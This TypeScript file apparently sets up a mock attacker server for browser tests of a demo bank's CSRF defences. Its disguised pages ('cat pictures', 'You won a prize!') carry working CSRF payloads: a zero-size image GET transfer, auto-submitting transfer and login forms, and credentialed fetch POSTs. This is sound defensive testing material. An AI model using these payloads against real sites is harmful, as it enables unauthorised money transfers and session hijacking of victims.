import { createServer, type Server } from 'node:http';

/**
 * The hostile site (the seed article's attacks). Every page runs its attack on load and then
 * sets `document.title` to "done" so the browser tests know when it has finished. None of them
 * may move money or change who is signed in at the bank.
 */
const SHELL = (title: string, body: string) => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${title}</title>
<style>body{font:16px/1.5 system-ui,sans-serif;max-width:720px;margin:40px auto;padding:0 20px;background:#fff4f4;color:#3b0a0a}
h1{color:#b42318}code{background:#fde2e2;padding:1px 5px;border-radius:4px}a{color:#b42318}</style></head>
<body><h1>😈 ${title}</h1>${body}</body></html>`;

function pages(bankUrl: string): Record<string, string> {
  const transferGet = `${bankUrl}/transfer?amount=1500&to=attacker`;
  return {
    '/': SHELL(
      'Totally innocent cat pictures',
      `<p>Visit these while signed in to the bank in another tab. Then check your balance.</p><ul>
      <li><a href="/img">/img</a>: a zero-size image whose URL is <code>GET /transfer?amount=1500&amp;to=attacker</code></li>
      <li><a href="/form">/form</a>: an auto-submitting form that POSTs a transfer</li>
      <li><a href="/fetch">/fetch</a>: credentialed <code>fetch</code> POSTs (JSON, text/plain, form-encoded)</li>
      <li><a href="/login-csrf">/login-csrf</a>: silently signs you in to the bank as the attacker</li></ul>`,
    ),
    '/img': SHELL(
      'Cute cat',
      `<p>Loading the cat…</p>
      <img src="${transferGet}" width="0" height="0" alt="" onload="document.title='done'" onerror="document.title='done'">`,
    ),
    '/form': SHELL(
      'You won a prize!',
      `<form id="f" method="post" action="${bankUrl}/transfer">
        <input type="hidden" name="to" value="attacker"><input type="hidden" name="amount" value="1500">
        <input type="hidden" name="_csrf" value="guessed-token"></form>
      <script>document.getElementById('f').submit();</script>`,
    ),
    '/fetch': SHELL(
      'Loading…',
      `<pre id="log"></pre>
      <script>
        const log = (line) => { document.getElementById('log').textContent += line + '\\n'; };
        const attempt = (name, init) => fetch(${JSON.stringify(`${bankUrl}/transfer`)}, { method: 'POST', credentials: 'include', ...init })
          .then((r) => log(name + ': status ' + r.status + ' type ' + r.type), (e) => log(name + ': blocked (' + e.message + ')'));
        Promise.allSettled([
          attempt('json', { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ to: 'attacker', amount: '1500' }) }),
          attempt('text/plain', { mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: 'to=attacker&amount=1500' }),
          attempt('form-encoded', { mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'to=attacker&amount=1500' }),
        ]).then(() => { document.title = 'done'; });
      </script>`,
    ),
    '/login-csrf': SHELL(
      'Please wait…',
      `<form id="f" method="post" action="${bankUrl}/login">
        <input type="hidden" name="username" value="attacker"><input type="hidden" name="password" value="attacker-owns-this"></form>
      <script>document.getElementById('f').submit();</script>`,
    ),
  };
}

export function createAttackerServer(bankUrl: () => string): Server {
  return createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0] ?? '/';
    const page = pages(bankUrl())[path];
    res.setHeader('cache-control', 'no-store');
    if (!page) {
      res.writeHead(404, { 'content-type': 'text/plain' }).end('nothing here');
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
  });
}
